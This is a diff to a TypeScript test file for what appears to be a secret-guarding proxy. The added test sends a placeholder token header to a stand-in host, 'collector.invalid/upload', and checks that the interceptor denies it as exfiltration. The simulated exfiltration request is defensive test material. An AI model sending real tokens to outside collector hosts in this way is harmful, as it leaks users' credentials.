@@ -344,6 +344,30 @@ test('interceptor: checkRequest can refuse (exfiltration) or rewrite headers of 
   }
 });
 
+test('interceptor: a placeholder sent to a host the policy denies is still shown to the broker (recorded as exfiltration)', async () => {
+  const seen: string[] = [];
+  const interceptor: Interceptor = {
+    checkRequest(req) {
+      seen.push(`${req.host}${req.path}`);
+      if (req.headers.some(([, v]) => v.includes('airlock_ph_'))) return { action: 'deny', reason: 'exfiltration: placeholder sent to a host it is not for' };
+      return { action: 'forward', headers: req.headers };
+    },
+    wantsTermination: () => false,
+    terminate: () => {},
+  };
+  const { p, port } = await proxyWith([`127.0.0.1:${echo.port}`], [], { interceptor });
+  try {
+    const ex = await get(port, 'http://collector.invalid/upload', 'X-Token: airlock_ph_s_456\r\n');
+    assert.equal(ex.status, 403);
+    assert.match(ex.headers['x-airlock-deny']!, /exfiltration/);
+    assert.deepEqual(seen, ['collector.invalid/upload']);
+    const plain = await get(port, 'http://collector.invalid/other');
+    assert.equal(plain.status, 403, 'a denied host stays denied when no placeholder is present');
+  } finally {
+    await p.close();
+  }
+});
+
 function makeCert(cn: string): { key: string; cert: string } | undefined {
   const d = mkdtempSync(join(dir, 'cert-'));
   const r = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-subj', `/CN=${cn}`, '-addext', `subjectAltName=DNS:${cn}`, '-days', '1', '-keyout', join(d, 'k.pem'), '-out', join(d, 'c.pem')], { encoding: 'utf8' });
